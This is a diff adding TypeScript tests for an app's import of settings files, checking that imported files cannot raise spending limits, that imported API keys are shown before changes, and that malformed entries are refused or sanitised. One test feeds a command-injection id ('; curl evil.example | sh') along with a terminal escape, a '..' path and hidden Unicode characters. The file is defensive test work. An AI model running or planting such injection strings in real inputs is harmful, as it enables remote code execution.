@@ -387,6 +387,81 @@ test('the commands move a house: limits, the ledger and the history, and no secr
   })
 })
 
+/** A file that somebody else wrote, to be imported by this user. */
+function hostileFile(organisation: object): string {
+  const file = { app: 'parallel-tray', version: 1, madeAt: 0 }
+  return JSON.stringify({ ...file, organisations: [{ ...hostileOrganisation, ...organisation }] })
+}
+const hostileOrganisation = { serviceApiUrl: here, organisationId: 'org_1', name: null }
+
+test.each([
+  ['higher', 15_000, 1_000_000, 15_000],
+  ['none', 15_000, null, 15_000],
+  ['lower', 15_000, 5000, 5000],
+  ['one where there is none here', null, 5000, 5000],
+])('a file never raises the top-up limit of a day: %s', async (_, limitHere, inFile, after) => {
+  const made = computer()
+  made.of('org_1').setLimits({ ...defaultLimits, topUpPerDayCents: limitHere })
+  made.files.files.set(path, hostileFile({ limits: { topUpPerDayCents: inFile, daysLeftBelow: 8 } }))
+  made.files.opens = path
+  await made.importExport.readFile()
+  const isKept = after === limitHere
+  expect(made.importExport.contents()).toMatchObject({
+    value: [
+      {
+        limits: [
+          { limit: 'daysLeftBelow', here: 3, inFile: 8, isKept: false },
+          { limit: 'topUpPerDayCents', here: limitHere, inFile, isKept },
+        ],
+      },
+    ],
+  })
+  await made.importExport.importFound()
+  expect(made.of('org_1').limits).toMatchObject({ topUpPerDayCents: after, daysLeftBelow: 8 })
+})
+
+test('every key of a file is listed with the server’s id before anything changes, and stays marked', async () => {
+  const made = await signedIn()
+  const alias = { ...keyOf(1), apiKeyId: 'key_production', name: 'old test key' }
+  const gone = { ...keyOf(2), apiKeyId: 'key_2', standing: { kind: 'deleted', at: 1 } }
+  made.files.files.set(path, hostileFile({ ledger: [alias, gone] }))
+  made.files.opens = path
+  expect(await made.commands['import.read']({})).toMatchObject({ failure: { kind: 'cancelled' } })
+  await made.commands['data.import']({})
+  const key = { appName: 'web', apiKeyId: 'key_production', name: 'old test key', isDeleted: false }
+  expect(await made.commands['import.read']({})).toMatchObject({
+    ok: true,
+    value: [{ id: 'org_1', keys: [key, { keyId: '2', apiKeyId: 'key_2', isDeleted: true }] }],
+  })
+  const rows = async () => {
+    const read = await made.commands['keys.read']({ organisationId: 'org_1' })
+    return read.ok ? read.value.apps.flatMap(({ keys }) => keys) : []
+  }
+  expect(await rows()).toEqual([])
+  await made.commands['data.import-now']({})
+  expect(await rows()).toMatchObject([{ name: 'old test key', imported: { apiKeyId: 'key_production' } }])
+})
+
+test.each([
+  ['a command as an id', { apiKeyId: '; curl evil.example | sh\n' }],
+  ['an escape as an id', { apiKeyId: 'key\u001b[2J' }],
+  ['another path as an app', { appId: '..' }],
+])('a file with %s is refused', async (_, change) => {
+  const made = computer()
+  made.files.files.set(path, hostileFile({ ledger: [{ ...keyOf(1), ...change }] }))
+  made.files.opens = path
+  await made.importExport.readFile()
+  expect(made.said()).toMatchObject([{ kind: 'failed', failure: { kind: 'bad-file' } }])
+})
+
+test('names of a file are made safe to show', async () => {
+  const made = await signedIn()
+  made.files.files.set(path, hostileFile({ ledger: [{ ...keyOf(1), name: 'a\u202Eb\u200Bc' }] }))
+  made.files.opens = path
+  await made.commands['data.import']({})
+  expect(await made.commands['import.read']({})).toMatchObject({ value: [{ keys: [{ name: 'abc' }] }] })
+})
+
 const ids = fc.constantFrom('org_1', 'org_2')
 const someRows = fc.dictionary(ids, fc.uniqueArray(fc.nat(20)))
 const someLimits = fc.dictionary(ids, fc.integer({ min: 1, max: 365 }))
